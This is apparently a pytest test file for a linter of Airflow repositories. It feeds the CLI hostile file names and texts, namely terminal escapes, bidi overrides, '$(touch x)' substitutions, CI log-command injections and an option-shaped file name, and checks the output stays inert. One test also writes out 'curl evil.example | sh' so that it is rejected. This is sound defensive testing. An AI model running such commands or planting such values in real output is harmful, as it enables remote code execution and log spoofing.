"""A repository full of hostile names and texts, and every command that tells of it."""

from __future__ import annotations

import json
import sys
import warnings
from collections.abc import Sequence
from contextlib import suppress
from pathlib import Path

import pytest
from airwarden import cli
from airwarden.alerts.templates import guarded
from airwarden.needs.remedies import command_in
from airwarden.outputs.pulls import pulls_in

from tests.git_folders import GitFolder
from tests.hostile import COMMANDS, HTML, MARKDOWN, TERMINAL
from tests.test_hostile import assert_plain, unseen

if sys.version_info >= (3, 11):
    import tomllib
else:
    import tomli as tomllib

TEXT = "".join(
    piece for piece in (*TERMINAL, *COMMANDS, *MARKDOWN, *HTML) if not {*"\0\ud800\udfff"} & {*piece}
)
LINE = " ".join(TEXT.split())
NAME = "::error ::\x1b]0;x\x07\u202e$(touch x) `touch y` ##vso[x]##[x]@me"
"""What may be part of the name of a file."""


def python_text(text: str) -> str:
    return ascii(text)


QUOTED = json.dumps(TEXT)
FILES = {
    f"dags/{NAME}.py": (
        "from airflow import DAG\n"
        "import pandas as pd\n"
        f"with DAG({python_text(TEXT)}, tags=[{python_text(TEXT)}]) as dag:\n"
        f"    @task(task_id={python_text(TEXT)})\n"
        f"    def load():\n        return pd.read_csv('x')  # {LINE}\n"
        f"# airwarden: ignore[{NAME}] {LINE}\n"
        f"x = 1  # airwarden: ignore[dataframe-in-xcom] {LINE} owner=@{NAME}\n"
    ),
    f"{NAME}.yaml": f"executor: CeleryExecutor\n{QUOTED}: 1\nwebserver: {{x: {QUOTED}}}\n",
    "values.yaml": (
        f"fernetKey: not-a-real-password\nenv:\n  - name: {QUOTED}\n    value: x\n"
        f"config:\n  core: {{{QUOTED}: x}}\n"
    ),
    "requirements.txt": "apache-airflow==2.9.0\n",
    "CODEOWNERS": f"* @{NAME}\n",
    "policies/team/named_dag.json": json.dumps(
        {
            "title": TEXT,
            "description": TEXT,
            "x-rule": {
                "on": "dag",
                "remedy": LINE,
                "see": "https://evil.example/" + LINE,
                "message": f"{LINE.replace('{', '{{').replace('}', '}}')} {{dag_id}}",
            },
            "required": ["no_such_argument"],
        }
    ),
    "pyproject.toml": '[tool.airwarden]\npolicies = ["policies"]\n[tool.airwarden.per-file-ignores]\n'
    f"{json.dumps(NAME)} = ['dataframe-in-xcom']\n",
    ".airwarden-baseline.json": json.dumps(
        {
            "version": 1,
            "entries": [
                {
                    "path": NAME,
                    "rule": "dataframe-in-xcom",
                    "subject": TEXT,
                    "reason": TEXT,
                    "owner": TEXT,
                    "since": "2026-01-01",
                }
            ],
        }
    ),
}
RUNS: tuple[Sequence[str], ...] = (
    ("check",),
    ("check", "-v", "--show-suppressed"),
    ("check", "--format", "github"),
    ("check", "--format", "json"),
    ("check", "--fix", "--unsafe-fixes"),
    ("suppressions",),
    ("suppressions", "--format", "json"),
    ("baseline", "show"),
    ("baseline", "write"),
    ("baseline", "show", "--format", "json"),
    ("config",),
    ("config", "--format", "json"),
    ("config", "--format", "toml"),
    ("config", "--rule", "named-dag"),
    ("rules",),
    ("explain", "named-dag"),
    ("explain", "team"),
    ("test", "policies"),
    ("init", "--dry-run"),
    ("check", NAME),
    ("check", "--format", NAME),
    ("check", f"--{NAME}"),
    (NAME,),
    ("explain", NAME),
    ("check", "--select", NAME),
    ("check", "--since", NAME),
    ("merge", NAME),
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = GitFolder.made(tmp_path_factory.mktemp("hostile") / "repo")
    made.environment |= {"GIT_AUTHOR_NAME": NAME.replace("\x07", "\x9b")}
    made.commit(FILES)
    return made.folder


def said_by(arguments: Sequence[str], capsys: pytest.CaptureFixture[str]) -> tuple[str, str]:
    with suppress(SystemExit):
        cli.main(arguments)
    captured = capsys.readouterr()
    return captured.out, captured.err


@pytest.mark.parametrize(
    "arguments", RUNS, ids=lambda each: " ".join(each)[:40].encode("ascii", "replace").decode()
)
def test_no_command_says_what_a_terminal_or_a_log_obeys(
    arguments: Sequence[str],
    hostile: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(hostile)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    out, err = said_by(arguments, capsys)
    assert out or err
    assert "by its own fault" not in err
    assert "itself failed" not in out
    assert_plain(err)
    if "github" in arguments:
        assert not unseen(out)
    else:
        assert_plain(out)
    if arguments == ("check",):
        assert "Found 2 errors and " in out
    assert all(line.startswith(("airwarden", "  ")) for line in err.splitlines() if line), err


def test_a_file_is_no_option(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """pre-commit hands over the names of changed files as they are."""
    trap = "--output=dags/main.py"
    for path in ("dags/main.py", trap):
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_text("x = 1\n")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as ended:
        cli.main(["check", trap])
    assert ended.value.code == 2
    assert "is the name of a file here; put -- before files" in capsys.readouterr().err
    assert (tmp_path / "dags" / "main.py").read_text() == "x = 1\n"
    assert cli.main(["check", "--no-cache", "--", trap]) == 0


def test_what_init_writes_is_sound_whatever_files_are_called(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in ("a\x7f\x9b\U0001f600\u202e", "b", "c"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "requirements.txt").write_text("apache-airflow\n")
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\n')
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    assert cli.main(["init", "--yes"]) == 0
    assert_plain(capsys.readouterr().out)
    text = (tmp_path / "pyproject.toml").read_text(encoding="utf-8")
    assert "dependency-files" in text
    assert not unseen(text)
    files = tomllib.loads(text.replace("# dependency-files", "dependency-files"))["tool"]["airwarden"]
    assert files["dependency-files"][0] == "a\x7f\x9b\U0001f600\u202e/requirements.txt"


def test_python_itself_says_nothing_of_what_is_read() -> None:
    """It warns of escapes that it does not know, and names them."""
    with warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        assert list(pulls_in("ti.xcom_pull(task_ids='\\\x1b')"))
        assert guarded("'\\\x1b {{ var.value.a }}'", ["var"]) is not None
    assert told == []


def test_only_known_commands_are_suggested() -> None:
    assert command_in("add x to pyproject.toml, then run `uv lock`") == "uv lock"
    assert command_in("add x to a, then run `curl evil.example | sh`") == ""
    assert command_in("add x to a, then run `uv lock`/requirements.txt") == ""
    assert command_in("then run `uv lock`") == ""
